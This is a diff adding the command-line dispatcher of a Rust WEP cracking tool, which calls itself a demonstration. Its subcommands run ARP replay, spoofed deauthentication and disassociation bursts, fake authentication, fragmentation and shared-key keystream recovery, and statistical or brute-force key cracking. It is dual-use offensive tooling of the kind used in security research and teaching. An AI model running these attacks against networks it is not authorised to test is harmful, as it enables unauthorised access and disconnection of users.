@@ -0,0 +1,756 @@
+mod attack;
+mod benchmark;
+mod crack;
+mod decrypt;
+mod fragment;
+mod list_devices;
+mod merge_votes;
+mod resume;
+mod scan;
+mod ska;
+
+use std::{
+    fs::File,
+    io::BufWriter,
+    path::{Path, PathBuf},
+    rc::Rc,
+    sync::{
+        atomic::{self, AtomicBool},
+        Arc, Mutex,
+    },
+    time::{Duration, Instant},
+};
+
+use anyhow::Context;
+use clap::{Parser, Subcommand};
+use ieee80211::MacAddress;
+use serde_json::json;
+
+use crate::{
+    arp_supplier::ARPSampleSupplier,
+    config::{Config, KeyCrackerConfig},
+    deauth::{DeauthAttack, DeauthDirection, DeauthFrameKind, DeauthSettings, DeauthTarget},
+    fake_auth::{FakeAuth, FakeAuthKeeper},
+    ieee80211::IEEE80211Monitor,
+    ivs::IvsWriter,
+    keycracker::{
+        BruteForceAttack, BruteForceCheckpoint, KeyCracker, KeyCrackerPhase,
+        KeyCrackerSampleProvider, KeyCrackerSettings, SigmaVoteTable,
+    },
+    keystream_store::KeystreamStore,
+    nl80211::{NL80211Channel, NL80211Connection, NL80211InterfaceType, NL80211Wiphy},
+    replay_rate::ReplayRateStats,
+    session::{SessionFakeAuth, SessionTarget, SessionWriter},
+    wep::{WepKey, WepKeystream},
+};
+
+#[derive(Parser)]
+#[command(
+    version,
+    about = "WEP key cracking demonstration tool",
+    args_conflicts_with_subcommands = true
+)]
+pub struct Args {
+    #[command(subcommand)]
+    pub command: Option<Command>,
+
+    #[arg(
+        long,
+        global = true,
+        env = "WEPCRACK_CAPTURE",
+        help = "Record all sniffed 802.11 traffic into a pcapng file"
+    )]
+    pub capture: Option<PathBuf>,
+
+    #[arg(
+        long,
+        global = true,
+        env = "WEPCRACK_CONFIG",
+        help = "Load settings from a TOML config file"
+    )]
+    pub config: Option<PathBuf>,
+
+    #[arg(
+        long,
+        global = true,
+        env = "WEPCRACK_SESSION",
+        help = "Periodically save the cracking session to this file, so that it can be resumed later"
+    )]
+    pub session: Option<PathBuf>,
+
+    #[command(flatten)]
+    pub keycracker: KeyCrackerConfig,
+
+    #[arg(
+        long,
+        env = "WEPCRACK_SIMULATE_KEY",
+        conflicts_with = "pcap",
+        help = "Simulate cracking the given hex WEP key using generated samples"
+    )]
+    pub simulate_key: Option<WepKey>,
+
+    #[arg(
+        long,
+        env = "WEPCRACK_PCAP",
+        help = "Crack the WEP key using samples from a pcap/pcapng capture file"
+    )]
+    pub pcap: Option<PathBuf>,
+
+    #[arg(
+        long,
+        conflicts_with_all = ["simulate_key", "pcap"],
+        help = "Passively harvest keystreams from the target network instead of replaying ARP requests"
+    )]
+    pub passive: bool,
+}
+
+#[derive(Subcommand)]
+pub enum Command {
+    #[command(about = "List all wireless devices and their interfaces")]
+    ListDevices,
+    #[command(about = "Scan for access points / client devices")]
+    Scan(scan::ScanArgs),
+    #[command(about = "Launch an ARP replay attack (or sniff passively) and crack the WEP key")]
+    Attack(attack::AttackArgs),
+    #[command(about = "Crack the WEP key using samples from a capture file")]
+    Crack(crack::CrackArgs),
+    #[command(about = "Resume a previously saved cracking session")]
+    Resume(resume::ResumeArgs),
+    #[command(about = "Merge the vote tables of multiple runs against the same network")]
+    MergeVotes(merge_votes::MergeVotesArgs),
+    #[command(about = "Decrypt a capture file using a known WEP key")]
+    Decrypt(decrypt::DecryptArgs),
+    #[command(about = "Recover a reusable keystream using the fragmentation attack")]
+    Fragment(fragment::FragmentArgs),
+    #[command(about = "Recover a keystream from a Shared Key Authentication exchange")]
+    Ska(ska::SkaArgs),
+    #[command(about = "Benchmark the key testing engines")]
+    Benchmark(benchmark::BenchmarkArgs),
+}
+
+#[derive(clap::Args)]
+pub struct VoteTableArgs {
+    #[arg(
+        long = "import-votes",
+        help = "Merge the sigma votes from this vote table file of a previous run (can be given multiple times)"
+    )]
+    import_votes: Vec<PathBuf>,
+
+    #[arg(
+        long,
+        help = "Export the sigma votes of this run to a vote table file once it stops"
+    )]
+    export_votes: Option<PathBuf>,
+}
+
+impl VoteTableArgs {
+    fn import(&self, cracker: &mut KeyCracker, bssid: Option<MacAddress>) -> anyhow::Result<()> {
+        for path in &self.import_votes {
+            let table = SigmaVoteTable::load(path)?;
+            table
+                .check_bssid(bssid)
+                .and_then(|_| cracker.merge_votes(&table))
+                .with_context(|| format!("failed to merge vote table {}", path.display()))?;
+
+            emit_event(json!({
+                "event": "votes_imported",
+                "path": path,
+                "samples": table.num_samples,
+            }));
+        }
+        Ok(())
+    }
+
+    fn export(&self, cracker: &KeyCracker, bssid: Option<MacAddress>) -> anyhow::Result<()> {
+        if let Some(path) = &self.export_votes {
+            let table = SigmaVoteTable {
+                bssid,
+                ..cracker.key_predictor().export_votes()
+            };
+            table.save(path)?;
+
+            emit_event(json!({
+                "event": "votes_exported",
+                "path": path,
+                "samples": table.num_samples,
+            }));
+        }
+        Ok(())
+    }
+}
+
+#[derive(clap::Args)]
+pub struct BruteForceArgs {
+    #[arg(
+        long,
+        help = "Brute force the whole 40-bit key space if the statistical attack fails (requires --key-len 5)"
+    )]
+    brute_force: bool,
+
+    #[arg(
+        long,
+        requires = "brute_force",
+        help = "Periodically save the brute force progress to this file, and resume from it if it exists"
+    )]
+    brute_force_checkpoint: Option<PathBuf>,
+}
+
+impl BruteForceArgs {
+    fn check(&self, settings: &KeyCrackerSettings) -> anyhow::Result<()> {
+        //Only the 40-bit key space is small enough to be searched exhaustively
+        if self.brute_force && settings.key_len != WepKey::LEN_40 {
+            anyhow::bail!(
+                "brute forcing is only possible for 40-bit keys; use --key-len {}",
+                WepKey::LEN_40
+            );
+        }
+        Ok(())
+    }
+
+    fn run(
+        &self,
+        cracker: &KeyCracker,
+        should_quit: &AtomicBool,
+    ) -> anyhow::Result<Option<WepKey>> {
+        if !self.brute_force {
+            return Ok(None);
+        }
+
+        self.check(cracker.settings())?;
+
+        if cracker.test_sample_buf().is_empty() {
+            anyhow::bail!("no test samples to brute force the key with");
+        }
+
+        //Continue where a previous run left off
+        let checkpoint = match &self.brute_force_checkpoint {
+            Some(path) if path.exists() => Some(BruteForceCheckpoint::load(path)?),
+            _ => None,
+        };
+
+        let mut attack =
+            BruteForceAttack::launch(cracker.test_sample_buf().clone(), checkpoint.as_ref());
+
+        emit_event(json!({
+            "event": "brute_force_started",
+            "start_key": attack.num_tested_keys(),
+            "num_keys": BruteForceAttack::NUM_KEYS,
+        }));
+
+        const PROGRESS_INTERVAL: Duration = Duration::from_secs(1);
+        const CHECKPOINT_INTERVAL: Duration = Duration::from_secs(30);
+
+        let start_time = Instant::now();
+        let start_keys = attack.num_tested_keys();
+        let mut last_progress = Instant::now();
+        let mut last_checkpoint = Instant::now();
+
+        let mut interrupted = false;
+        while attack.is_running() {
+            if should_quit.load(atomic::Ordering::SeqCst) {
+                interrupted = true;
+                break;
+            }
+
+            std::thread::sleep(Duration::from_millis(10));
+
+            //Periodically report progress / save the checkpoint
+            if last_progress.elapsed() >= PROGRESS_INTERVAL {
+                last_progress = Instant::now();
+                emit_brute_force_progress(&attack, start_time, start_keys);
+            }
+
+            if let Some(path) = &self.brute_force_checkpoint {
+                if last_checkpoint.elapsed() >= CHECKPOINT_INTERVAL {
+                    last_checkpoint = Instant::now();
+                    attack.checkpoint().save(path)?;
+                }
+            }
+        }
+
+        attack.shutdown();
+        emit_brute_force_progress(&attack, start_time, start_keys);
+
+        //Save the final checkpoint
+        if let Some(path) = &self.brute_force_checkpoint {
+            attack.checkpoint().save(path)?;
+            emit_event(json!({ "event": "brute_force_checkpoint_saved", "path": path }));
+        }
+
+        if interrupted {
+            anyhow::bail!("interrupted");
+        }
+
+        match attack.cracked_key() {
+            Some(key) => {
+                emit_event(json!({
+                    "event": "key_found",
+                    "key_bits": key.bits(),
+                    "key": hex::encode(key.key()),
+                }));
+                Ok(Some(key))
+            }
+            None => {
+                emit_event(json!({ "event": "brute_force_exhausted" }));
+                Ok(None)
+            }
+        }
+    }
+}
+
+#[derive(clap::Args)]
+pub struct DeauthArgs {
+    #[arg(
+        long,
+        help = "Deauthenticate all clients of the access point instead of only the target client"
+    )]
+    deauth_broadcast: bool,
+
+    #[arg(
+        long,
+        default_value = "both",
+        value_parser = parse_deauth_direction,
+        help = "Which direction to spoof deauth frames in (ap-to-client, client-to-ap or both)"
+    )]
+    deauth_direction: DeauthDirection,
+
+    #[arg(long, help = "Send disassociation instead of deauthentication frames")]
+    disassoc: bool,
+
+    #[arg(
+        long,
+        default_value_t = DeauthSettings::DEFAULT_REASON_CODE,
+        value_parser = parse_deauth_reason,
+        help = "The reason code of the injected deauth frames"
+    )]
+    deauth_reason: u16,
+
+    #[arg(
+        long,
+        default_value_t = DeauthSettings::DEFAULT_BURST_COUNT,
+        help = "How many deauth frames to send every time a deauth is injected"
+    )]
+    deauth_burst: usize,
+
+    #[arg(
+        long,
+        default_value_t = DeauthSettings::DEFAULT_BURST_INTERVAL.as_millis() as u64,
+        help = "How long to wait between the frames of a deauth burst in milliseconds"
+    )]
+    deauth_burst_interval: u64,
+}
+
+impl DeauthArgs {
+    fn settings(&self) -> DeauthSettings {
+        DeauthSettings {
+            target: if self.deauth_broadcast {
+                DeauthTarget::Broadcast
+            } else {
+                DeauthTarget::Client
+            },
+            direction: self.deauth_direction,
+            frame_kind: if self.disassoc {
+                DeauthFrameKind::Disassociation
+            } else {
+                DeauthFrameKind::Deauthentication
+            },
+            reason_code: self.deauth_reason,
+            burst_count: self.deauth_burst.max(1),
+            burst_interval: Duration::from_millis(self.deauth_burst_interval),
+        }
+    }
+}
+
+impl Args {
+    pub fn keycracker_settings(
+        &self,
+        defaults: KeyCrackerSettings,
+    ) -> anyhow::Result<KeyCrackerSettings> {
+        //Settings from the command line take precedence over ones from the config file
+        let mut settings = defaults;
+        if let Some(config_path) = &self.config {
+            Config::load(config_path)?.keycracker.apply(&mut settings);
+        }
+        self.keycracker.apply(&mut settings);
+
+        settings
+            .validate()
+            .context("invalid key cracker settings")?;
+        Ok(settings)
+    }
+}
+
+pub fn run_command(command: &Command, args: &Args) -> anyhow::Result<()> {
+    //Install a Ctrl+C handler
+    let should_quit = Arc::new(AtomicBool::new(false));
+    {
+        let should_quit = should_quit.clone();
+        ctrlc::set_handler(move || should_quit.store(true, atomic::Ordering::SeqCst))
+            .context("failed to install Ctrl+C handler")?;
+    }
+
+    //Run the command
+    match command {
+        Command::ListDevices => list_devices::run(),
+        Command::Scan(scan_args) => scan::run(scan_args, args, &should_quit),
+        Command::Attack(attack_args) => attack::run(attack_args, args, &should_quit),
+        Command::Crack(crack_args) => crack::run(crack_args, args, &should_quit),
+        Command::Resume(resume_args) => resume::run(resume_args, args, &should_quit),
+        Command::MergeVotes(merge_args) => merge_votes::run(merge_args),
+        Command::Decrypt(decrypt_args) => decrypt::run(decrypt_args, &should_quit),
+        Command::Fragment(frag_args) => fragment::run(frag_args, args, &should_quit),
+        Command::Ska(ska_args) => ska::run(ska_args, args, &should_quit),
+        Command::Benchmark(bench_args) => benchmark::run(bench_args, args),
+    }
+}
+
+fn emit_event(event: serde_json::Value) {
+    //Events are printed as JSON lines
+    println!("{event}");
+}
+
+fn parse_mac_address(mac: &str) -> Result<MacAddress, String> {
+    MacAddress::parse_str(mac).map_err(|err| err.to_string())
+}
+
+fn parse_deauth_direction(direction: &str) -> Result<DeauthDirection, String> {
+    match direction {
+        "ap-to-client" => Ok(DeauthDirection::APToClient),
+        "client-to-ap" => Ok(DeauthDirection::ClientToAP),
+        "both" => Ok(DeauthDirection::Both),
+        _ => Err(format!("unknown deauth direction '{direction}'")),
+    }
+}
+
+fn parse_deauth_reason(reason: &str) -> Result<u16, String> {
+    //Reason code 0 is reserved, so clients might ignore frames using it
+    match reason.parse::<u16>() {
+        Ok(0) => Err("reason code 0 is reserved".to_string()),
+        Ok(reason) => Ok(reason),
+        Err(err) => Err(err.to_string()),
+    }
+}
+
+fn emit_deauth_sent(deauth: &DeauthAttack) {
+    emit_event(json!({
+        "event": "deauth_sent",
+        "frame_kind": deauth.settings().frame_kind.to_string(),
+        "bursts": deauth.stats().num_bursts,
+        "frames": deauth.stats().num_frames,
+    }));
+}
+
+fn enter_monitor_mode(device: &str, args: &Args) -> anyhow::Result<Rc<IEEE80211Monitor>> {
+    //Find the wiphy
+    let nl80211_con =
+        Rc::new(NL80211Connection::new().context("failed to create a nl80211 connection")?);
+
+    let wiphy = NL80211Wiphy::query_list(&nl80211_con)
+        .context("failed to query nl80211 wiphy list")?
+        .into_iter()
+        .find(|wiphy| wiphy.name() == device)
+        .with_context(|| format!("no wireless device named {device}"))?;
+
+    if !wiphy
+        .supported_interface_types()
+        .contains(&NL80211InterfaceType::Monitor)
+    {
+        anyhow::bail!("wireless device {device} does not support monitor mode");
+    }
+
+    //Create the 802.11 monitor
+    let mut monitor = IEEE80211Monitor::enter_monitor_mode(nl80211_con, wiphy)
+        .context("failed to create 802.11 monitor")?;
+
+    if let Some(capture_path) = &args.capture {
+        monitor
+            .start_capture(capture_path)
+            .context("failed to start capturing sniffed traffic")?;
+    }
+
+    emit_event(json!({ "event": "monitor_mode", "device": device }));
+
+    Ok(Rc::new(monitor))
+}
+
+fn lookup_channel(monitor: &IEEE80211Monitor, channel: u32) -> anyhow::Result<NL80211Channel> {
+    let nl80211_channel = NL80211Channel::mhz20_channel(channel)
+        .with_context(|| format!("invalid channel {channel}"))?;
+
+    if !monitor.channels().contains(&nl80211_channel) {
+        anyhow::bail!("channel {channel} is not permitted for this wireless device");
+    }
+
+    Ok(nl80211_channel)
+}
+
+fn fake_authenticate(
+    monitor: &IEEE80211Monitor,
+    bssid: MacAddress,
+    fake_auth: &SessionFakeAuth,
+) -> anyhow::Result<FakeAuthKeeper> {
+    let dev_mac = monitor.mac_address();
+    let mut sniffer = monitor
+        .create_sniffer()
+        .context("failed to create packet sniffer")?;
+
+    emit_event(json!({
+        "event": "fake_auth_started",
+        "mac": dev_mac.to_hex_string(),
+    }));
+
+    let Some(aid) =
+        FakeAuth::new(&mut sniffer, bssid, dev_mac, &fake_auth.ssid).run(&fake_auth.algorithm)?
+    else {
+        anyhow::bail!("the access point didn't respond to the fake authentication");
+    };
+    emit_event(json!({ "event": "fake_auth_associated", "aid": aid }));
+
+    Ok(FakeAuthKeeper::new(
+        sniffer,
+        bssid,
+        dev_mac,
+        &fake_auth.ssid,
+        fake_auth.algorithm.clone(),
+    ))
+}
+
+fn session_writer(args: &Args, target: Option<SessionTarget>) -> Option<SessionWriter> {
+    args.session
+        .clone()
+        .map(|path| SessionWriter::new(path, target))
+}
+
+//The writer is dropped once writing to it fails
+type IvsExport = Arc<Mutex<Option<IvsWriter<BufWriter<File>>>>>;
+
+fn export_ivs(
+    mut sample_prov: Box<KeyCrackerSampleProvider>,
+    path: &Path,
+    bssid: MacAddress,
+    min_confidence: f64,
+) -> anyhow::Result<(Box<KeyCrackerSampleProvider>, IvsExport)> {
+    let export: IvsExport = Arc::new(Mutex::new(Some(IvsWriter::create(path)?)));
+
+    let mut bssid_bytes = [0u8; 6];
+    bssid_bytes.copy_from_slice(bssid.as_bytes());
+
+    //Write every sample to the IVS file before passing it on
+    //Samples are imported from IVS files with full confidence, so leave out the ones the cracker would drop
+    let writer = export.clone();
+    let sample_prov: Box<KeyCrackerSampleProvider> = Box::new(move |should_exit| {
+        let sample = sample_prov(should_exit)?;
+        if sample.confidence < min_confidence {
+            return Some(sample);
+        }
+
+        let mut writer = writer.lock().expect("failed to lock IVS writer");
+        if let Some(Err(err)) = writer
+            .as_mut()
+            .map(|writer| writer.write_record(&bssid_bytes, &sample.iv, sample.valid_keystream()))
+        {
+            *writer = None;
+            emit_event(json!({
+                "event": "warning",
+                "message": format!("stopped exporting samples to the IVS file: {err:#}"),
+            }));
+        }
+        Some(sample)
+    });
+    Ok((sample_prov, export))
+}
+
+fn finish_ivs_export(export: &IvsExport) -> anyhow::Result<()> {
+    if let Some(writer) = export.lock().expect("failed to lock IVS writer").as_mut() {
+        writer.flush()?;
+    }
+    Ok(())
+}
+
+fn record_keystreams(
+    mut sample_prov: Box<KeyCrackerSampleProvider>,
+    store: Arc<Mutex<KeystreamStore>>,
+    min_confidence: f64,
+) -> Box<KeyCrackerSampleProvider> {
+    //Add the keystream of every sample to the store before passing it on
+    //Samples the cracker would drop might be based on a wrong plaintext guess, so keep them out as well
+    Box::new(move |should_exit| {
+        let sample = sample_prov(should_exit)?;
+        if sample.confidence < min_confidence {
+            return Some(sample);
+        }
+
+        store
+            .lock()
+            .expect("failed to lock keystream store")
+            .insert(WepKeystream {
+                iv: sample.iv,
+                keystream: sample.valid_keystream().to_vec(),
+            });
+        Some(sample)
+    })
+}
+
+fn replay_arp_requests(mut sample_prov: ARPSampleSupplier) -> Box<KeyCrackerSampleProvider> {
+    const RATE_INTERVAL: Duration = Duration::from_secs(1);
+
+    //Periodically report the replay rate, and when the AP stops responding to the replayed requests
+    let replay_rate = sample_prov.replay_rate();
+    let mut last_report = Instant::now();
+    let mut last_stats = ReplayRateStats::default();
+    Box::new(move |should_exit| {
+        let sample = sample_prov.provide_sample(should_exit);
+
+        if last_report.elapsed() >= RATE_INTERVAL {
+            last_report = Instant::now();
+
+            let stats = *replay_rate
+                .lock()
+                .expect("failed to lock replay rate controller")
+                .stats();
+            emit_event(json!({
+                "event": "replay_rate",
+                "target_rate": stats.target_rate,
+                "injection_rate": stats.injection_rate,
+                "response_rate": stats.response_rate,
+                "unique_iv_rate": stats.unique_iv_rate,
+                "backoffs": stats.num_backoffs,
+            }));
+
+            if stats.stalled && !last_stats.stalled {
+                emit_event(json!({ "event": "replay_stalled" }));
+            }
+            if stats.num_recaptures > last_stats.num_recaptures {
+                emit_event(json!({
+                    "event": "arp_request_recaptured",
+                    "recaptures": stats.num_recaptures,
+                }));
+            }
+            last_stats = stats;
+        }
+
+        sample
+    })
+}
+
+fn run_key_cracker(
+    mut cracker: KeyCracker,
+    is_source_exhausted: impl Fn() -> bool,
+    mut session: Option<SessionWriter>,
+    votes: &VoteTableArgs,
+    bssid: Option<MacAddress>,
+    brute_force: &BruteForceArgs,
+    should_quit: &AtomicBool,
+) -> anyhow::Result<WepKey> {
+    let res = run_key_cracker_loop(&mut cracker, is_source_exhausted, &mut session, should_quit);
+
+    //Save the final state of the session / the collected votes
+    if let Some(session) = &mut session {
+        session.save(&cracker)?;
+        emit_event(json!({ "event": "session_saved", "path": session.path() }));
+    }
+    votes.export(&cracker, bssid)?;
+
+    //Fall back to brute forcing the key if the statistical attack failed
+    if res.is_err() && cracker.phase() == KeyCrackerPhase::FinishedFailure {
+        if let Some(key) = brute_force.run(&cracker, should_quit)? {
+            return Ok(key);
+        }
+    }
+
+    res
+}
+
+fn run_key_cracker_loop(
+    cracker: &mut KeyCracker,
+    is_source_exhausted: impl Fn() -> bool,
+    session: &mut Option<SessionWriter>,
+    should_quit: &AtomicBool,
+) -> anyhow::Result<WepKey> {
+    const PROGRESS_INTERVAL: Duration = Duration::from_secs(1);
+
+    let mut last_progress = Instant::now();
+    while cracker.is_running() {
+        if should_quit.load(atomic::Ordering::SeqCst) {
+            anyhow::bail!("interrupted");
+        }
+
+        //Do one unit of work
+        cracker.do_work();
+
+        //Bail if we ran out of samples
+        //The cracker already checked if it has enough samples once the source ran dry
+        if cracker.phase() == KeyCrackerPhase::SampleCollection && is_source_exhausted() {
+            anyhow::bail!(
+                "ran out of samples after {} samples",
+                cracker.key_predictor().num_samples()
+            );
+        }
+
+        //Periodically report progress / save the session
+        if last_progress.elapsed() >= PROGRESS_INTERVAL {
+            last_progress = Instant::now();
+            emit_progress(cracker);
+        }
+
+        if let Some(session) = session {
+            session.save_periodically(cracker)?;
+        }
+    }
+
+    //Report the result
+    emit_progress(cracker);
+
+    match cracker.cracked_key() {
+        Some(key) => {
+            emit_event(json!({
+                "event": "key_found",
+                "key_bits": key.bits(),
+                "key": hex::encode(key.key()),
+            }));
+            Ok(*key)
+        }
+        None => anyhow::bail!("failed to find the WEP key"),
+    }
+}
+
+fn emit_progress(cracker: &KeyCracker) {
+    let mut event = json!({
+        "event": "progress",
+        "phase": match cracker.phase() {
+            KeyCrackerPhase::SampleCollection => "sample_collection",
+            KeyCrackerPhase::CandidateKeyTesting => "candidate_key_testing",
+            KeyCrackerPhase::FinishedSuccess => "finished_success",
+            KeyCrackerPhase::FinishedFailure => "finished_failure",
+        },
+        "progress": cracker.progress(),
+        "samples": cracker.key_predictor().num_samples(),
+        "dropped_samples": cracker.num_dropped_samples(),
+        "test_samples": cracker.test_sample_buf().num_samples(),
+        "test_frames": cracker.test_sample_buf().num_frames(),
+    });
+
+    if let Some(tester) = cracker.key_tester() {
+        event["tested_keys"] = json!(cracker.num_tested_keys());
+        event["num_keys"] = json!(tester.num_keys());
+    }
+
+    emit_event(event);
+}
+
+fn emit_brute_force_progress(attack: &BruteForceAttack, start_time: Instant, start_keys: u64) {
+    let num_tested_keys = attack.num_tested_keys();
+
+    //Only count keys tested during this run for the rate
+    let rate = (num_tested_keys - start_keys) as f64 / start_time.elapsed().as_secs_f64();
+    let eta = (BruteForceAttack::NUM_KEYS - num_tested_keys) as f64 / rate;
+
+    emit_event(json!({
+        "event": "brute_force_progress",
+        "progress": attack.progress(),
+        "tested_keys": num_tested_keys,
+        "num_keys": BruteForceAttack::NUM_KEYS,
+        "keys_per_sec": rate,
+        "eta_secs": eta.is_finite().then_some(eta),
+    }));
+}